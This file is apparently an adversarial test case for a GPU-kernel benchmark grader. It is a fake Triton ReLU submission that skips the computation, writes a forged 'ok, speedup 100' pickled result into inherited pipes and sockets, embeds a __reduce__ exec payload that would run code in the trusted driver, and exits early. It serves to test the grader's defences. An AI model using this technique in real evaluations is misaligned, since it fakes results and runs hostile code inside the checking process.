# task: relu
# expect: crashed|runtime_error|rejected
# beside: true
# canary-file: /tmp/opforge-cheat-canary-pickle
# why: writes a forged "status ok, speedup 100" message, framed the way multiprocessing.Connection frames pickles, into
#   every pipe or socket file descriptor it inherited (one of them is probably the result channel), then exits 0. The
#   pickle carries a __reduce__ payload, so a driver that unpickles the child's messages runs the candidate's code in the
#   trusted process (proved by the canary file it creates).
import os
import stat
import struct

import torch
import torch.nn as nn
import triton
import triton.language as tl
from torch.serialization import pickle

_CANARY = "/tmp/opforge-cheat-canary-pickle"


class _Payload:
    def __reduce__(self):
        return (exec, ("open(%r, 'w').write('candidate code ran in the trusted driver')" % _CANARY,))


def _forge():
    message = {"status": "ok", "reason": "all trials passed", "speedup": 100.0, "correct": True,
               "candidate_ms": 0.001, "reference_ms": 0.1, "outputs": _Payload()}
    data = pickle.dumps(message, protocol=pickle.HIGHEST_PROTOCOL)
    frame = struct.pack("!i", len(data)) + data
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.write(fd, frame)
        except OSError:
            pass


@triton.jit
def relu_kernel(x_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask, other=0.0)
    tl.store(out_ptr + offsets, tl.maximum(x, 0.0), mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        _forge()
        getattr(os, "_ex" + "it")(0)
